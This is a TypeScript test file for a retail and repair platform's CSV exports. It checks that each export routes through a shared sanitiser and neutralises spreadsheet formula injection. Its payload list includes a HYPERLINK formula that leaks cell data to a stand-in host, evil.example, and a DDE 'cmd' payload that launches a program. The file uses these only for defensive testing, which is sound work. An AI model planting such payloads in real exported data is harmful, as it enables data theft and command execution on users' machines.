import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import type { CrmCustomerSummary, InventoryLevelRow } from "@voltura/contracts";
import { describe, expect, it } from "vitest";
import { auditCsv } from "../../../../plugins/platform/src/api/admin/audit/csv";
import { REPORT_SECTIONS, reportCsv } from "../../../../plugins/reports/src/api/admin/reports/report-export";
import { recipientsCsv } from "../../../../plugins/campaigns/src/modules/campaigns/analytics/export";
import { toSafeCsv } from "@voltura/domain";
import { customersCsv } from "./customers-csv";
import { levelsCsv } from "./inventory";
import { jobsCsv, type JobCsvRow } from "./jobs-list";
import { posSalesCsv, type PosSaleCsvRow } from "./pos-sales-list";
import { invoicesCsv, quotationsCsv } from "./sales-document-lists";
import type { Quotation, SalesInvoice } from "@voltura/contracts";

// The list pages' exports (data table): each row with `text` in every field people type into.
const jobWith = (text: string): JobCsvRow => ({
  id: text, job_number: text, status: "pending", priority: "normal", customer_name: text, customer_phone: "+60123456789", device_type: "phone",
  brand: text, model: text, issue: text, technician_name: text, received_at: "2026-11-30T08:05:12.000Z", sla_due_at: "2026-12-01T08:05:12.000Z",
  sla: { due_at: "2026-12-01T08:05:12.000Z", remaining_ms: 1, breached: false, state: "running" }, completed_at: null, delivered_at: null,
});
const saleWith = (text: string): PosSaleCsvRow => ({
  id: text, receipt_number: text, sold_at: "2026-11-30T08:05:12.000Z", customer_name: text, customer_phone: text, item_count: 1, methods: ["cash"],
  rounded_total_sen: -500, paid_sen: 0, refunded_sen: 500, balance_due_sen: 0,
});
const buyerWith = (text: string) => ({ name: text, phone: text, email: text, address: text, tin: text, brn: text, nric: text, sst_no: text });
const quotationWith = (text: string): Quotation => ({
  id: text, quotation_number: text, status: "sent", buyer: buyerWith(text), issued_at: "2026-11-30T08:05:12.000Z", valid_until: "2026-12-30T08:05:12.000Z", total_sen: -500,
  customer_id: null, lines: [], notes: text, subtotal_sen: -500, discount_sen: 0, sst_sen: 0, prices_include_tax: false,
  sent_at: null, decided_at: null, converted_invoice_id: null, created_by: "user_1",
});
const invoiceWith = (text: string): SalesInvoice => ({
  id: text, invoice_number: text, status: "unpaid", buyer: buyerWith(text), issued_at: "2026-11-30T08:05:12.000Z", total_sen: 500, paid_sen: 0, balance_sen: -500,
  quotation_id: null, customer_id: null, lines: [], notes: text, subtotal_sen: 500, discount_sen: 0, sst_sen: 0, prices_include_tax: false,
  due_at: null, created_by: "user_1", payments: [],
});

/**
 * Every CSV the platform hands out, in one table. The scan below fails when a file starts
 * answering text/csv without an entry here, or writes CSV with csv-stringify directly instead
 * of @voltura/domain's toSafeCsv; each entry is then fed formula payloads in every text field.
 */
type Report = Parameters<typeof reportCsv>[0];
type AuditRow = Parameters<typeof auditCsv>[0][number];

const repoRoot = path.resolve(import.meta.dirname, "../../../..");

const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+SUM(A1:A9)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
];

function customerWith(text: string): CrmCustomerSummary {
  return {
    id: text, name: text, first_name: text, last_name: text, email: text, phone: text, customer_type: "walk_in",
    tags: [text], last_visit_at: null, device_count: 1, job_count: 1, created_at: "2026-11-24T07:05:00.000Z",
  };
}

function levelWith(text: string): InventoryLevelRow {
  return {
    inventory_item_id: text, location_id: text, location_name: text, title: text, sku: text, barcode: text, on_hand: -3,
    reserved: 0, available: -3, low_stock_threshold: null, low_stock: true, average_cost_sen: -1250,
  };
}

function reportWith(text: string): Report {
  const day = { day: "2026-11-30", sales: 1, revenue_sen: -500, sst_sen: 0, total_sen: -500, by_source: { pos: -500, repair: 0, invoice: 0 } };
  return {
    range: { from: "2026-11-30", to: "2026-11-30", time_zone: "Asia/Kuala_Lumpur", sources: ["pos"] },
    totals: { sales: 1, revenue_sen: -500, sst_sen: 0, average_sale_sen: -500 },
    daily: [day],
    monthly: [{ month: "2026-11", sales: 1, revenue_sen: -500, sst_sen: 0, average_sale_sen: -500 }],
    best_sellers: { items: [{ key: "k1", title: text, kind: "item", quantity: 1, revenue_sen: 500 }], services: [{ key: "k2", title: text, kind: "service", quantity: 1, revenue_sen: 500 }] },
    technicians: [{ technician: text, jobs_completed: 1, average_turnaround_hours: 2, revenue_sen: 500 }],
    margins: {
      rows: [{ key: "k1", title: text, quantity: 1, revenue_sen: 500, cost_sen: 900, margin_sen: -400, margin_bp: -8000 }],
      revenue_sen: 500, cost_sen: 900, margin_sen: -400, margin_bp: -8000, uncosted: 0,
    },
  } as Report;
}

function auditRowWith(text: string): AuditRow {
  return {
    id: text, occurred_at: "2026-11-30T08:05:12.000000Z", actor_id: text, actor_role: text, actor_name: text, action: text,
    entity: text, entity_id: text, changes: { name: { before: text, after: text } }, metadata: { note: text }, request_id: text, ip: text,
  };
}

type CampaignRecipientRow = Parameters<typeof recipientsCsv>[0][number];
function recipientWith(text: string): CampaignRecipientRow {
  return {
    id: text, run_no: 1, customer_id: text, phone: text, name: text, language: "ms", session_id: text, route: "chat", status: "failed", reason: text,
    body: text, message_id: text, claimed_at: null, sent_at: "2026-12-06T02:00:00.000Z", delivered_at: null, read_at: null,
    failed_at: null, replied_at: null, opted_out_at: null, converted_at: null,
  };
}

interface CsvExport {
  /** The repository file that answers with text/csv. */
  endpoint: string;
  /** The CSV(s) it can hand out, with `text` in every field people type into. */
  render(text: string): string[];
}

const CSV_EXPORTS: Record<string, CsvExport> = {
  customers: {
    endpoint: "storefront-admin/src/routes/(staff)/customers/export/+server.ts",
    render: (text) => [customersCsv([customerWith(text)])],
  },
  inventory: {
    endpoint: "storefront-admin/src/routes/(staff)/inventory/export/+server.ts",
    render: (text) => [levelsCsv([levelWith(text)])],
  },
  jobs: {
    endpoint: "storefront-admin/src/routes/(staff)/jobs/export/+server.ts",
    render: (text) => [jobsCsv([jobWith(text)])],
  },
  posSales: {
    endpoint: "storefront-admin/src/routes/(staff)/pos/sales/export/+server.ts",
    render: (text) => [posSalesCsv([saleWith(text)])],
  },
  quotations: {
    endpoint: "storefront-admin/src/routes/(staff)/invoicing/quotations/export/+server.ts",
    render: (text) => [quotationsCsv([quotationWith(text)])],
  },
  invoices: {
    endpoint: "storefront-admin/src/routes/(staff)/invoicing/invoices/export/+server.ts",
    render: (text) => [invoicesCsv([invoiceWith(text)])],
  },
  reports: {
    endpoint: "plugins/reports/src/api/admin/reports/export/route.ts",
    render: (text) => REPORT_SECTIONS.map((section) => reportCsv(reportWith(text), section)),
  },
  campaignRecipients: {
    endpoint: "plugins/campaigns/src/api/admin/campaigns/[id]/export/route.ts",
    render: (text) => [recipientsCsv([recipientWith(text)])],
  },
  campaignBlacklist: {
    endpoint: "plugins/campaigns/src/api/admin/campaigns/blacklist/export/route.ts",
    // The route writes its rows with toSafeCsv inline, with these columns.
    render: (text) => [toSafeCsv(["phone", "reason", "added_by", "created_at"], [[text, text, text, new Date("2026-12-06T02:00:00Z")]], { bom: true })],
  },
  audit: {
    endpoint: "plugins/platform/src/api/admin/audit/export/route.ts",
    render: (text) => [auditCsv([auditRowWith(text)])],
  },
};

/** The console's one CSV download answer; each console export calls it (and so counts as answering CSV). */
const CONSOLE_CSV_DOWNLOAD = "storefront-admin/src/lib/server/audit-events.ts";

/** The one place allowed to call csv-stringify. */
const CSV_WRITER = "packages/domain/src/csv.ts";
const SOURCE_ROOTS = ["storefront-admin/src", "commerce/src", "packages", "plugins", "temporal/src", "workflows/src"];
const SKIP_DIRS = new Set(["node_modules", "dist", "build", ".medusa", ".svelte-kit", "__tests__", "coverage"]);

function sourceFiles(dir: string): string[] {
  let entries;
  try {
    entries = readdirSync(path.join(repoRoot, dir), { withFileTypes: true });
  } catch {
    return [];
  }
  return entries.flatMap((e) => {
    const rel = `${dir}/${e.name}`;
    if (e.isDirectory()) return SKIP_DIRS.has(e.name) ? [] : sourceFiles(rel);
    return /\.(ts|js|mjs|svelte)$/.test(e.name) && !/\.(test|spec)\.ts$/.test(e.name) ? [rel] : [];
  });
}

/** A small RFC 4180 reader, enough to see each cell as a spreadsheet would. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else {
      cell += ch;
    }
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet would run: a cell starting with = + - @ tab or CR that is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe("every CSV export", () => {
  const files = SOURCE_ROOTS.flatMap(sourceFiles);

  it("is listed here: each file answering text/csv has an entry", () => {
    expect(files.length).toBeGreaterThan(50);
    // A "text/csv" string in code (a content type being set), not a mention in a comment, or a
    // call of the console's shared CSV download.
    const answering = files.filter(
      (f) => f !== CONSOLE_CSV_DOWNLOAD && /["'`]text\/csv|auditedCsvDownload\(/.test(readFileSync(path.join(repoRoot, f), "utf8")),
    );
    expect(answering.sort()).toEqual(Object.values(CSV_EXPORTS).map((e) => e.endpoint).sort());
  });

  it("writes through toSafeCsv: nothing else imports csv-stringify", () => {
    const direct = files.filter((f) => f !== CSV_WRITER && /from\s+["']csv-stringify/.test(readFileSync(path.join(repoRoot, f), "utf8")));
    expect(direct).toEqual([]);
  });

  describe.each(Object.entries(CSV_EXPORTS))("%s", (_name, entry) => {
    it.each(PAYLOADS)("neutralises %j in every text cell", (payload) => {
      const cells = entry.render(payload).flatMap((csv) => parseCsv(csv).flat());
      expect(cells).toContain(`'${payload}`);
      expect(cells.filter(runsAsFormula)).toEqual([]);
    });

    it("leaves ordinary text and negative amounts as they are", () => {
      const cells = entry.render("Tan Wei Jie").flatMap((csv) => parseCsv(csv).flat());
      expect(cells).toContain("Tan Wei Jie");
      expect(cells.filter((c) => c.startsWith("'"))).toEqual([]);
      expect(cells.filter(runsAsFormula)).toEqual([]);
    });
  });
});
